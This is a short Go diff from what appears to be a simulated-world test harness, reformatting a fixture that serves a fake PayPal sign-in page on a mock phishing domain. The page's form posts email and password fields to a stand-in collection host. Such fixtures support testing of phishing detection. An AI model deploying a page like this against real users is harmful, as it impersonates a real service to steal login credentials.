@@ -166,7 +166,8 @@ const phishingSite = "paypal-secure-login.example"
 func servePhishing(world *diagtest.World) {
 	world.HTTPS(phishingSite, htmlPage(
 		`<!doctype html><title>PayPal: log in</title><h1>Sign in</h1><form method="post" action="https://collect.example/in">`+
-			`<input name="email" type="email"><input name="pw" type="password"><button>Sign in</button></form>`))
+			`<input name="email" type="email"><input name="pw" type="password"><button>Sign in</button></form>`,
+	))
 }
 
 // serveHarbour opens the web shop and the mail server of a company that looked after neither: the shop still speaks
